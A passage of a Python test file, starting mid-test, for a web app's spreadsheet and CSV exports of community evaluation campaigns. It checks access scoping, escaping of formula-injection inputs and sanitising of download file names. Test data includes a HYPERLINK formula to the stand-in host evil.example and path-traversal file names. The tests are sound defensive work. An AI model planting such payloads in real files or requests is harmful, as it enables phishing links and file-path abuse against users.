    from app.api import exports as api_exports
    from app.evaluation.queries import ResponseFilter

    campaign, communities, _, _ = world
    a, b = communities["A"], communities["B"]
    asked = []
    real = api_exports.campaign_summary
    monkeypatch.setattr(api_exports, "campaign_summary",
                        lambda campaign, group_by, which: asked.append((group_by, which)) or real(campaign, group_by, which))
    url = f"/api/v1/campaigns/{campaign.id}/summary.xlsx"

    def table(response) -> dict:
        assert response.status_code == 200
        header, *rows = list(openpyxl.load_workbook(io.BytesIO(response.data))["各社区"].values)
        return {row[1]: dict(zip(header, row)) for row in rows}

    everything = table(evaluator.get(url))
    assert asked == [("community", ResponseFilter(include_flagged=False)),
                     ("campaign", ResponseFilter(include_flagged=False))]
    asked.clear()
    mine = table(logged_in(a, Role.COMMUNITY).get(url))  # community staff: their own community only
    assert asked == [("community", ResponseFilter(community_ids=frozenset({a.id}), include_flagged=False))]
    assert mine == {"甲社区": everything["甲社区"]}
    asked.clear()
    assert table(evaluator.get(f"{url}?community={b.id}&include_flagged=1")).keys() == {"乙社区"}
    assert asked == [("community", ResponseFilter(community_ids=frozenset({b.id}), include_flagged=True))]


def test_names_staff_typed_stay_words_in_every_cell_and_make_a_safe_file_name(world, evaluator):
    campaign, _, _, _ = world
    campaign.name = '=HYPERLINK("http://evil.example/x","点我")'
    db.session.commit()
    for path, what in (("summary.xlsx", "汇总表"), ("responses.xlsx", "原始数据")):
        response = evaluator.get(f"/api/v1/campaigns/{campaign.id}/{path}")
        assert response.status_code == 200
        # No / nor " in the name a browser saves, nor anywhere in the header.
        assert download_name(response) == f"=HYPERLINK(_http___evil.example_x_,_点我_)-{what}.xlsx"
        assert "/" not in response.headers["Content-Disposition"].replace("application/", "")
        book = openpyxl.load_workbook(io.BytesIO(response.data))
        cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
        assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
        notes = {row[0].value: row[1] for row in book["说明"].iter_rows()}
        assert (notes["测评"].value, notes["测评"].data_type) == (campaign.name, "s")


def test_every_cell_header_and_note_is_written_as_words():
    from app.evaluation.spreadsheets import PERCENT, add_notes, add_table, as_csv, new_workbook, workbook_bytes

    book = new_workbook()
    add_table(book, "表", ["=1+1", "比例", "@SUM(A1)"],
              [["#N/A", 0.5, "-2+3"], ["a\x01b", None, 3], ["=A1", 1, "+1"]], {1: PERCENT})
    add_notes(book, [["=HYPERLINK(\"http://x\")", "=A1*2"], ["生成时间", "2026-03-01 10:30"]])
    loaded = openpyxl.load_workbook(io.BytesIO(workbook_bytes(book)))
    sheet = loaded["表"]
    assert list(sheet.values) == [("=1+1", "比例", "@SUM(A1)"), ("#N/A", 0.5, "-2+3"), ("ab", None, 3),
                                  ("=A1", 1, "+1")]
    words = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert len(words) == 8 and {cell.data_type for cell in words} == {"s"}
    assert sheet["B2"].number_format == PERCENT and sheet["B4"].number_format == PERCENT
    assert sheet["C2"].number_format == "General" and sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 10  # sized to the header
    notes = loaded["说明"]
    assert list(notes.values) == [("=HYPERLINK(\"http://x\")", "=A1*2"), ("生成时间", "2026-03-01 10:30")]
    assert {cell.data_type for row in notes.iter_rows() for cell in row} == {"s"}
    lines = as_csv(["=1+1", "比例"], [["@x", 1], ["-1", -1]]).decode("utf-8-sig").splitlines()
    assert lines == ["'=1+1,比例", "'@x,1", "'-1,-1"]


def test_a_file_name_never_names_a_folder():
    from app.evaluation.downloads import attachment_headers

    for name, saved, fallback in (
            ("2026/第一轮\\测评:a*b?c\"d<e>f|g-汇总表.xlsx", "2026_第一轮_测评_a_b_c_d_e_f_g-汇总表.xlsx",
             "2026_a_b_c_d_e_f_g.xlsx"),
            ("..\n报告.pdf", "_报告.pdf", "download.pdf"),
            ("report 2026.csv", "report 2026.csv", "report_2026.csv")):
        header = attachment_headers(name)["Content-Disposition"]
        assert header == f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{quote(saved, safe='')}", name
        assert parse_options_header(header) == ("attachment", {"filename": saved})
    assert attachment_headers("报告.pdf", inline=True)["Content-Disposition"].startswith('inline; filename="download.pdf"')
